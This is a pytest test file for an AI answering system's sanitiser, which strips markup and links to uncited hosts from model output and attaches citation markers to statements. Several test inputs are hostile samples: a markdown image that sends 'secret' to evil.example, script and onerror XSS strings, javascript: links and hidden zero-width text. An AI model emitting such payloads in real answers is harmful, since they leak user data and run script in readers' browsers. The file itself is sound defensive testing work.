"""Nothing that a model writes reaches a page as markup, or leads anywhere but to cited documents."""

import pytest

from aika.answering.citations import statements, without_markers
from aika.answering.display import inline
from aika.answering.sanitising import sanitised
from aika.answering.streaming import SafeStream

CITED = ("https://docs.example/guide.md",)


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("![x](https://evil.example/p.png?q=secret)", "x"),
        ("![x][pixel]\n\n[pixel]: https://evil.example/p.png", "x\n\n"),
        ("See [the guide](https://docs.example/guide.md#top).", "See [the guide](https://docs.example/guide.md#top)."),
        ("See [the guide](https://evil.example/guide.md).", "See the guide."),
        ("See [x](javascript:alert(1)).", "See x)."),
        ("See [a [b] c](https://evil.example).", "See a [b] c."),
        ("See <https://evil.example/x>.", "See `https://evil.example/x`."),
        ("Go to https://evil.example/?d=1, now.", "Go to `https://evil.example/?d=1`, now."),
        ("Go to www.evil.example/x now.", "Go to `www.evil.example/x` now."),
        ("a <b>bold</b> word", "a bold word"),
        ("<img src=x onerror=alert(1)>text", "text"),
        ("<script>alert(1)</script>text", "text"),
        ("<iframe src='https://evil.example'>", ""),
        ("<a href='https://evil.example'>here</a>", "here"),
        ("text <!-- hidden -->", "text "),
        ("<custom-element onload=x>text", "text"),
        ("an open <img src=x", r"an open \<img src=x"),
        ("Use <cluster-name> here", r"Use \<cluster-name> here"),
        ("2 < 3 and 4 > 1", "2 < 3 and 4 > 1"),
        ("`<b>` and `[x](https://evil.example)`", "`<b>` and `[x](https://evil.example)`"),
        ("```html\n<b>[1]</b>\n```", "```html\n<b>[1]</b>\n```"),
        (r"$a<b$ and $$x[1] < y$$ and \(p<q\)", r"$a<b$ and $$x[1] < y$$ and \(p<q\)"),
        (r"$\href{https://evil.example}{x}$", r"`$\href{https://evil.example}{x}$`"),
        ("zero\u200bwidth \U000e0041tags", "zerowidth tags"),
        ("Fact [1][2] and [3].", "Fact [1][2] and [3]."),
        ("- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |", "- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |"),
    ],
)
def test_markup_and_foreign_links_go_and_the_rest_stays(written: str, shown: str) -> None:
    assert sanitised(written, CITED) == shown


@pytest.mark.parametrize(
    "written",
    [
        "First [a](https://evil.example/x) and ![b](https://evil.example/y?z=1) then <img src=https://evil.example> end.",
        "A list:\n\n- one\n- two `code <b>` [x][y]\n\n[y]: https://evil.example\n",
        "Text https://evil.example/a?b=c and more.",
        "```sh\ncurl https://a.example\n```\nDone [1].",
    ],
)
@pytest.mark.parametrize("size", [1, 3, 8])
def test_a_stream_never_shows_a_foreign_link_and_ends_like_the_whole(written: str, size: int) -> None:
    stream = SafeStream()
    shown = [stream.feed(written[start : start + size]) for start in range(0, len(written), size)]
    shown.append(stream.finish())

    for count in range(len(shown)):
        so_far = "".join(shown[: count + 1])
        assert "](https://evil" not in so_far
        assert "<img" not in so_far
    assert sanitised(written, ()).startswith("".join(shown))


@pytest.mark.parametrize(
    ("text", "markers"),
    [
        ("A fact [1].", [(1,)]),
        ("A fact. [1] Another one. [2]", [(1,), (2,)]),
        ("A fact [1, 2].", [(1, 2)]),
        ("A fact [1][3].", [(1, 3)]),
        ("A fact [1-3].", [(1, 2, 3)]),
        ("A fact 【2】.", [(2,)]),
        ("A fact [passage 2].", [(2,)]),
        ("A fact (passages 1 and 2).", [(1, 2)]),
        ("The value is `a[1]` here.", [()]),
        ("The value is $x[1]$ here.", [()]),
        ("See [1](https://docs.example).", [()]),
        ("- one [1]\n- two [2]", [(1,), (2,)]),
        ("```\na[1]\n```", [()]),
    ],
)
def test_markers_belong_to_the_statement_they_stand_behind(text: str, markers: list[tuple[int, ...]]) -> None:
    assert [statement.markers for statement in statements(text)] == markers


def test_cutting_markers_leaves_code_and_formulas_alone() -> None:
    assert without_markers("Use `a[1]` [2] and $x[3]$ [4].") == "Use `a[1]` and $x[3]$."


@pytest.mark.parametrize(
    ("quoted", "shown"),
    [
        ("See [Severity](severity.md) now.", "See Severity now."),
        ("![chart](chart.png) Look.", "Look."),
        ("> quoted\n> on two lines", "quoted on two lines"),
        ("Open https://a.example/x.", "Open `https://a.example/x`."),
        ("Keep `a <b> [1]` and **bold**.", "Keep `a <b> [1]` and **bold**."),
        ("As shown.[^1] Known [3].", "As shown. Known."),
        ("hard\nwrapped   text", "hard wrapped text"),
        ("<span class='x'>word</span>", "word"),
    ],
)
def test_a_quoted_sentence_is_shown_without_its_markup(quoted: str, shown: str) -> None:
    assert inline(quoted) == shown
